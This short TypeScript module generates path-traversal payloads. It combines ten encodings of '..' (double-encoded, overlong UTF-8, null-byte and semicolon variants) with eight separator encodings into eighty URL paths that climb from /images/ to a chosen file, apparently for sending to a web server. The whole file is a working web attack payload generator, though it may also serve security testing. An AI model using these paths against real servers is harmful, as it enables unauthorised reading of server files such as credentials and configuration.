const UP = ["..", "%2e%2e", ".%2E", "%252e%252e", "%c0%ae%c0%ae", "%u002e%u002e", "..%00", "..;", "%2e%2e%20", "...."];
const BETWEEN = ["/", "%2f", "%5c", "\\", "%252f", "//", "/./", "%c0%af"];

/** Spellings of the path to a file two folders above `/images/`; more than sixty, each sent as it is written. */
export const pathsUpTo = (file: string): string[] =>
  UP.flatMap((up) => BETWEEN.map((between) => `/images${between}${up}${between}${up}${between}${file}`));
